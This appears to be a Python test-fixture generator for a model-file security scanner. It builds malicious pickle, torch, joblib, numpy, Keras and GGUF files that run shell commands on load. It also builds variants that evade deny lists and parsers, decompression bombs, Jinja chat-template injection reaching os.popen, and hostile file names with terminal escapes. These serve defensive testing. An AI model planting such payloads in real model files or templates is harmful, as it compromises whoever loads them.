"""The hostile set: a model file for every way a verdict went wrong, and benign look-alikes.

Built opcode by opcode and byte by byte (never by pickling a live object), in a folder, for the
tests and for ``benchmarks/unsafe_detection.py``. Every payload only touches ``MARKER``, so a
run can prove nothing executed. Classes follow the hostile-inputs review: files chosen by name,
parser disagreements, limits, gadgets a deny list missed, half-read formats, templates, and
hostile names. Each class has several variants (names, protocols, encodings, containers).
"""

from __future__ import annotations

import bz2
import gzip
import io
import json
import lzma
import os
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import lz4.frame

from tests.discover.inspectors import builders as b
from tests.discover.inspectors import pickle_gen as g


@dataclass(frozen=True, slots=True)
class Sample:
    """One file of the set. ``rel`` is the path as reports show it (escaped when the real
    name is not UTF-8). ``label``: malicious (runs code when its loader opens it), benign, or
    crafted (inert but malformed on purpose: expected medium)."""

    rel: str
    label: str
    cls: str
    technique: str


MB = 1024 * 1024
CMD = g.CMD


def _p(module: str, name: str, protocol: int = 2) -> bytes:
    return g.call(module, name, protocol=protocol)


#: Payload pickles: different callables and protocols.
PAYLOADS: dict[str, bytes] = {
    "os.system-p0": _p("os", "system", 0),
    "posix.system-p2": _p("posix", "system", 2),
    "subprocess.Popen-p3": g.proto(3) + g.glob("subprocess", "Popen") + g.MARK + g.MARK
    + g.text("sh", 3) + g.text("-c", 3) + g.text(CMD, 3) + b"l" + g.TUPLE + g.REDUCE + g.STOP,
    "builtins.exec-p4": _p("builtins", "exec", 4).replace(CMD.encode(), b"import os"),
    "nt.system-stackglobal": g.stack_call("nt", "system"),
    "os.system-p5-framed": g.proto(5) + g.frame(_p("os", "system", 4)[2:]),
}  # fmt: skip


def _zfile(data: bytes) -> bytes:
    return b"ZF" + hex(len(data)).encode().ljust(19) + zlib.compress(data)


COMPRESS: dict[str, Callable[[bytes], bytes]] = {
    "zlib": zlib.compress,
    "gzip": gzip.compress,
    "bz2": bz2.compress,
    "xz": lzma.compress,
    "lz4": lz4.frame.compress,
    "zfile": _zfile,
}


def _joblib(tail_payload: bytes) -> bytes:
    """A joblib stream: an array wrapper and its raw bytes, then the payload in the list."""
    body = tail_payload[2:] if tail_payload[:1] == b"\x80" else tail_payload
    return g.joblib_array_then(body[:-1] + g.APPENDS + g.STOP)


def _names(add: Callable[..., None]) -> None:
    """Chosen by name, not content: loaders read any name; so must the inspector."""
    p = PAYLOADS
    add("names/model.dat", p["posix.system-p2"], "raw pickle named .dat")
    add("names/classifier.model", p["nt.system-stackglobal"], "raw pickle named .model")
    add("names/clf.sav", COMPRESS["zlib"](_joblib(p["os.system-p0"])), "zlib joblib .sav")
    add("names/params.msgpack", p["os.system-p5-framed"], "protocol-5 pickle named .msgpack")
    add("names/weights.pkl.z", COMPRESS["zlib"](p["builtins.exec-p4"]), "zlib .pkl.z")
    add("names/weights.pkl.gz", COMPRESS["gzip"](p["os.system-p0"]), "gzip .pkl.gz")
    add("names/checkpoint.pth.tar", g.torch_tar(p["posix.system-p2"]), "legacy tar .pth.tar")
    add("names/checkpoint.pt.zip", g.torch_zip(p["posix.system-p2"]), "torch zip .pt.zip")
    add("names/model", g.torch_zip(p["subprocess.Popen-p3"]), "torch zip, no extension")
    add("names/estimator", COMPRESS["xz"](_joblib(p["posix.system-p2"])), "xz joblib, no ext")
    add("names/notes.txt", p["os.system-p0"], "protocol-0 pickle named .txt")
    add("names/config.json", p["posix.system-p2"], "pickle named .json")
    add("names/helper.py", p["os.system-p0"], "pickle named .py")
    add("names/values.yaml", p["nt.system-stackglobal"], "pickle named .yaml")
    add("names/README.md", g.torch_zip(p["posix.system-p2"]), "torch zip named .md")
    add("names/legacy.bin.1", g.legacy_torch(p["posix.system-p2"]), "legacy torch .bin.1")
    add("names/weights.ckpt.bak", g.torch_zip(p["os.system-p0"]), "torch zip .ckpt.bak")
    add("names/model.safetensors", p["posix.system-p2"], "pickle named .safetensors")
    add("names/model.gguf", g.torch_zip(p["nt.system-stackglobal"]), "torch zip named .gguf")
    add("names/model.onnx", p["os.system-p0"], "pickle named .onnx")
    add("names/model.h5", p["builtins.exec-p4"], "pickle named .h5")


def _parser(add: Callable[..., None]) -> None:
    """Prefixes and literals CPython's unpickler accepts that once stopped the walk."""
    payload = PAYLOADS["os.system-p0"]
    for name, prefix in {
        "mark-pop": b"(0",
        "mark-popmark": b"(1",
        "hex-int": b"I0x1\n0",
        "octal-int": b"I017\n0",
        "hex-long": b"L0x1L\n0",
        "spaced-int": b"I 7 \n0",
        "underscore-long": b"L1_000\n0",
        "nul-int": b"I\x00\n0",
        "proto-later": b"N0\x80\x02N0",
    }.items():
        add(f"parser/{name}.pkl", prefix + payload, f"{name} prefix")
    utf8 = b"S'\xc3\xa9t\xc3\xa9'\n0" + payload
    add("parser/zip-utf8-string.pt", g.torch_zip(utf8), "non-ASCII STRING in a torch zip")
    latin = b"S'\xe9t\xe9'\n0" + PAYLOADS["posix.system-p2"]
    add("parser/zip-latin1-string.bin", g.torch_zip(latin), "latin-1 STRING in a torch zip")
    add("parser/legacy-fourth-markpop.pt", g.legacy_torch(b"(0" + payload), "legacy, MARK/POP")
    add("parser/legacy-fourth-hexint.pt", g.legacy_torch(b"I0x1\n0" + payload), "legacy, hex")
    magic = b"L" + hex(g.LEGACY_MAGIC).encode() + b"L\n."
    add(
        "parser/legacy-text-magic.pt",
        g.legacy_torch(PAYLOADS["posix.system-p2"], magic_pickle=magic),
        "legacy magic written as a text LONG",
    )
    crossing = b"cx" + b"os\nsystem\n" + g.MARK + g.text(CMD, 0) + g.TUPLE + g.REDUCE + g.STOP
    framed = g.proto(4) + b"\x95" + (2).to_bytes(8, "little") + crossing
    add("parser/frame-crossing.pkl", framed, "a GLOBAL line running out of its frame")
    short = (
        g.proto(4) + b"\x95" + (4096).to_bytes(8, "little") + PAYLOADS["nt.system-stackglobal"][2:]
    )
    add("parser/short-frame.pkl", short, "a frame longer than the file (pure-Python accepts)")


def _limits(add: Callable[..., None], filler_mb: int) -> None:
    """Budgets that used to end in 'not fully analysed' (low), and filler that cost minutes."""
    tail = PAYLOADS["posix.system-p2"][2:]
    size = filler_mb * MB
    add("limits/none-pop-filler.pkl", g.proto(2) + b"N0" * (size // 2) + tail, "NONE/POP filler")
    mixed = b"N0K\x020)0(1]0"
    add("limits/mixed-filler.pkl", g.proto(2) + mixed * (size // len(mixed)) + tail, "mixed")
    put = g.proto(2) + b"Nq\x00" + b"q\x00" * (size // 2) + g.POP + tail
    add("limits/put-filler.pkl", put, "repeated PUT filler")
    add("limits/deep-stack.pkl", g.proto(2) + g.NONE * 1_100_000 + tail, "1.1M stack items")
    head = g.proto(4) + b"\x8e" + (300 * MB).to_bytes(8, "little")
    comp = zlib.compressobj(9)
    chunk = bytes(MB)
    bomb = comp.compress(head) + b"".join(comp.compress(chunk) for _ in range(300))
    bomb += comp.compress(g.POP + tail) + comp.flush()
    add("limits/bomb.joblib", bomb, "zlib bomb (300 MB) before the payload")
    member = io.BytesIO()
    with (
        zipfile.ZipFile(member, "w", zipfile.ZIP_DEFLATED) as zf,
        zf.open("archive/data.pkl", "w", force_zip64=True) as fh,
    ):
        fh.write(head)
        for _ in range(300):
            fh.write(chunk)
        fh.write(g.POP + tail)
    add("limits/bomb-member.pt", member.getvalue(), "deflate bomb in data.pkl")


def _call(module: str, name: str, *args: bytes) -> bytes:
    return g.glob(module, name) + g.MARK + b"".join(args) + g.TUPLE + g.REDUCE


def _gadgets(add: Callable[..., None]) -> None:
    """Working code-execution and file-write gadgets a deny list rated medium."""
    t = g.text
    marker = str(g.MARKER)
    gadgets = {
        "argparse-os-spawnlp": g.proto(4)
        + _call("argparse", "_os.spawnlp", g.integer(0), t("sh"), t("sh"), t("-c"), t(CMD)),
        "posixpath-write-text": g.proto(4)
        + _call(
            "pathlib", "PosixPath.write_text", _call("pathlib", "PosixPath", t(marker)), t("x")
        ),
        "typing-eval-type": g.proto(4)
        + _call(
            "typing",
            "_eval_type",
            _call("typing", "ForwardRef", t(f"__import__('os').system('{CMD}')")),
            g.EMPTY_DICT,
            g.EMPTY_DICT,
        ),
        "namespace-getattribute": g.proto(4)
        + _call("argparse", "Namespace.__getattribute__", _call("argparse", "Namespace"), t("x")),
        "codecs-open": g.proto(2) + _call("codecs", "open", t(marker, 2), t("w", 2)),
        "numpy-savetxt": g.proto(2) + _call("numpy", "savetxt", t(marker, 2), g.EMPTY_LIST),
        "logging-dictconfig": g.proto(2)
        + _call(
            "logging.config",
            "dictConfig",
            g.EMPTY_DICT + g.MARK + t("()", 2) + t("os.system", 2) + g.SETITEMS,
        ),
        "cpickle-operator-add": g.proto(2)
        + _call(
            "cPickle",
            "loads",
            _call(
                "operator",
                "add",
                g.binbytes(PAYLOADS["os.system-p0"][:7]),
                g.binbytes(PAYLOADS["os.system-p0"][7:]),
            ),
        ),
        "webbrowser-open": g.proto(2)
        + _call("webbrowser", "open", t("https://example.invalid", 2)),
        "shutil-rmtree": g.proto(2) + _call("shutil", "rmtree", t("/tmp/nonexistent-x", 2)),
        "unknown-callable": g.proto(2) + _call("my_plugin.loader", "run", t("x", 2)),
        "getattr-chain": g.proto(2)
        + _call(
            "builtins", "getattr", _call("importlib", "import_module", t("os", 2)), t("system", 2)
        ),
    }
    for name, body in gadgets.items():
        add(f"gadgets/{name}.pkl", body + g.STOP, name)
    zipped = g.torch_zip(gadgets["typing-eval-type"] + g.STOP)
    add("gadgets/typing-eval-type.pt", zipped, "typing._eval_type in a torch zip")


def _npy(descr: object, body: bytes) -> bytes:
    header = repr({"descr": descr, "fortran_order": False, "shape": (1,)}).encode()
    header += b" " * (64 - (10 + len(header) + 1) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + body


def _formats(add: Callable[..., None]) -> None:
    """Formats half read: object arrays under other spellings, compressors, dense HDF5."""
    payload = PAYLOADS["os.system-p0"]
    for name, descr in {
        "object": "object",
        "pipe-O": "|O",
        "O8": "<O8",
        "struct": [("a", "<i4"), ("b", "O")],
    }.items():
        add(f"formats/{name}.npy", _npy(descr, g.call("os", "system", protocol=3)), f"descr {name}")
    npz = io.BytesIO()
    with zipfile.ZipFile(npz, "w") as zf:
        zf.writestr("weights.npy", _npy("object", payload))
    add("formats/arrays.npz", npz.getvalue(), "npz with an 'object' member")
    for kind in ("lz4", "xz", "bz2", "zfile", "gzip"):
        add(f"formats/model-{kind}.joblib", COMPRESS[kind](_joblib(payload)), f"{kind} joblib")
    for sample in ("far_dense_lambda.h5.gz", "far_dense_huge_lambda.h5.gz", "userblock_lambda.h5"):
        name = sample.removesuffix(".gz")
        add(f"formats/{name}", b.h5_sample(sample), f"Keras HDF5 {name}")
    lam = {"class_name": "Lambda", "config": {"name": "evil", "function": "4wEAAAAA"}}
    config = json.dumps(b.keras_config(b.dense(), lam))
    keras = io.BytesIO()
    with zipfile.ZipFile(keras, "w") as zf:
        zf.writestr("metadata.json", json.dumps({"keras_version": "3.8.0"}))
        zf.writestr("config.json", config)
        zf.writestr("model.weights.h5", b"\x89HDF\r\n\x1a\n" + b"\0" * 64)
    add("formats/keras-lambda.bin", keras.getvalue(), "Keras zip with a Lambda, named .bin")


CYCLER = "{{ cycler[i][g]['os']['popen']('" + CMD + "').read() }}"
TEMPLATES = {
    "set-concat": "{% set i = '__in' ~ 'it__' %}{% set g = '__glo' ~ 'bals__' %}" + CYCLER,
    "loop-names": "{% for n in ['__init__'] %}{% for m in ['__globals__'] %}"
    + "{{ cycler[n][m]['os'].popen('id') }}{% endfor %}{% endfor %}",
    "reverse": "{{ joiner['__tini__'|reverse]['__slabolg__'|reverse]['os'] }}",
    "macro": "{% macro r(a, b) %}{{ cycler[a][b] }}{% endmacro %}"
    + "{{ r('__init__', '__globals__') }}",
    "format": "{{ lipsum['%s%s' % ('__glo', 'bals__')]['os'] }}",
    "namespace": "{% set ns = namespace(k='x') %}{% set ns.k = '__init__' %}{{ cycler[ns.k] }}",
}
ORDINARY = {
    "chatml": "{% for m in messages %}{{ '<|im_start|>' + m['role'] + '\\n' + m['content']"
    " + '<|im_end|>\\n' }}{% endfor %}{% if add_generation_prompt %}"
    "{{ '<|im_start|>assistant\\n' }}{% endif %}",
    "llama3": "{{ bos_token }}{% for message in messages %}{{ '<|start_header_id|>' + "
    "message['role'] + '<|end_header_id|>\\n\\n' + message['content'] | trim + '<|eot_id|>' }}"
    "{% endfor %}{% if add_generation_prompt %}{{ '<|start_header_id|>assistant"
    "<|end_header_id|>\\n\\n' }}{% endif %}",
}


def _templates(add: Callable[..., None], root: Path) -> None:
    """Template injection through computed subscripts, in JSON, .jinja and GGUF."""
    for name, source in TEMPLATES.items():
        cfg = json.dumps({"bos_token": "<s>", "chat_template": source}).encode()
        add(f"templates/{name}/tokenizer_config.json", cfg, f"tokenizer_config.json: {name}")
    add("templates/jinja/chat_template.jinja", TEMPLATES["reverse"].encode(), "chat_template.jinja")
    for name in ("set-concat", "macro"):
        path = root / "templates" / f"{name}.gguf"
        path.parent.mkdir(parents=True, exist_ok=True)
        b.write_gguf(path, template=TEMPLATES[name], tokens=["<s>", "a"])
        add(f"templates/{name}.gguf", None, f"GGUF template: {name}")


def _output(add: Callable[..., None], root: Path) -> None:
    """Hostile names: not UTF-8, terminal escapes, newlines, Markdown image syntax."""
    (root / "output").mkdir(parents=True, exist_ok=True)
    raw = os.fsencode(root / "output") + b"/model\xff\xfe.pkl"
    with open(raw, "wb") as fh:
        fh.write(PAYLOADS["posix.system-p2"])
    add("output/model\\xff\\xfe.pkl", None, "a file name that is not UTF-8")
    add("output/tty\x1b[2J\x1b[3J\x1b[H.pkl", PAYLOADS["os.system-p0"], "ESC codes in the name")
    add("output/line\nbreak.pkl", PAYLOADS["os.system-p0"], "a newline in the name")
    add("output/esc-global.pkl", _p("os", "\x1b[2J\x1b[3J\x1b[H"), "ESC codes in a global")
    add("output/image.pkl", _p("mylib", "![t](https://evil.example/t.png)"), "Markdown image")


def _benign(add: Callable[..., None], root: Path) -> None:
    """Real-looking files that must stay at low or below."""
    sd = g.torch_state_dict()
    add("benign/pytorch_model.bin", g.torch_zip(sd, prefix="pytorch_model"), "torch zip")
    add("benign/model.pt", g.torch_zip(sd, compression=zipfile.ZIP_DEFLATED), "deflated zip")
    add("benign/legacy.pt", g.legacy_torch(sd), "legacy torch.save")
    add("benign/old.pth.tar", g.torch_tar(sd), "legacy tar torch.save")
    add("benign/embedding.npy", g.npy("<f4", (4,), b"\0" * 16), "numpy float array")
    npz = io.BytesIO()
    with zipfile.ZipFile(npz, "w") as zf:
        zf.writestr("a.npy", g.npy("<i8", (2,), b"\0" * 16))
        zf.writestr("b.npy", g.npy("<f8", (1,), b"\0" * 8))
    add("benign/arrays.npz", npz.getvalue(), "npz of numeric arrays")
    clf = (
        g.text("sklearn.linear_model._logistic")
        + g.text("LogisticRegression")
        + g.STACK_GLOBAL
        + g.EMPTY_TUPLE
        + g.NEWOBJ
        + g.EMPTY_DICT
        + g.MARK
        + g.text("C")
        + g.integer(1)
        + g.SETITEMS
        + g.BUILD
    )
    joblib = g.joblib_array_then(clf + g.APPENDS + g.STOP)
    add("benign/model.joblib", joblib, "joblib sklearn with an array")
    add("benign/model-z.joblib", COMPRESS["zlib"](joblib), "zlib joblib sklearn")
    add("benign/model-lz4.joblib", COMPRESS["lz4"](joblib), "lz4 joblib sklearn")
    add("benign/clf.pkl", g.proto(4) + clf + g.STOP, "pickled sklearn estimator")
    add("benign/plain.pkl", g.benign_dict(0), "protocol-0 dict")
    keras = root / "benign" / "model.keras"
    keras.parent.mkdir(parents=True, exist_ok=True)
    b.write_keras(keras, b.keras_config(b.dense()))
    add("benign/model.keras", None, "Keras zip without Lambda")
    add("benign/dense.h5", b.h5_sample("vlen_dense.h5"), "Keras HDF5 without Lambda")
    add("benign/far_dense_huge_plain.h5", b.h5_sample("far_dense_huge_plain.h5.gz"), "dense HDF5")
    st = b.safetensors_bytes({"w": ("F32", [4, 4]), "b": ("F32", [4])}, {"format": "pt"})
    add("benign/model.safetensors", st, "safetensors")
    for name, source in ORDINARY.items():
        path = root / "benign" / f"{name}.gguf"
        b.write_gguf(path, template=source, tokens=["<s>", "a"])
        add(f"benign/{name}.gguf", None, f"GGUF with a {name} template")
        cfg = json.dumps({"bos_token": "<s>", "chat_template": source}).encode()
        add(f"benign/{name}/tokenizer_config.json", cfg, f"ordinary {name} template")


def _crafted(add: Callable[..., None]) -> None:
    """Inert but malformed on purpose: safetensors offsets a trusting reader would follow."""
    for name, spans, data in (
        ("overlap", [(0, 8), (4, 12)], 12),
        ("past-end", [(0, 8), (8, 400)], 16),
    ):
        header = {
            f"t{i}": {"dtype": "U8", "shape": [e - s], "data_offsets": [s, e]}
            for i, (s, e) in enumerate(spans)
        }
        raw = json.dumps(header).encode()
        body = struct.pack("<Q", len(raw)) + raw + b"\0" * data
        add(f"crafted/{name}.safetensors", body, f"safetensors offsets {name}")


def build(root: Path, *, filler_mb: int = 20) -> list[Sample]:
    """Write the whole set under ``root``; return what each file is."""
    samples: list[Sample] = []

    def adder(label: str, cls: str) -> Callable[..., None]:
        def add(rel: str, data: bytes | None, technique: str) -> None:
            if data is not None:
                g.write(root / rel, data)
            samples.append(Sample(rel, label, cls, technique))

        return add

    _names(adder("malicious", "names"))
    _parser(adder("malicious", "parser"))
    _limits(adder("malicious", "limits"), filler_mb)
    _gadgets(adder("malicious", "gadgets"))
    _formats(adder("malicious", "formats"))
    _templates(adder("malicious", "templates"), root)
    _output(adder("malicious", "output"), root)
    _benign(adder("benign", "benign"), root)
    _crafted(adder("crafted", "crafted"))
    return samples
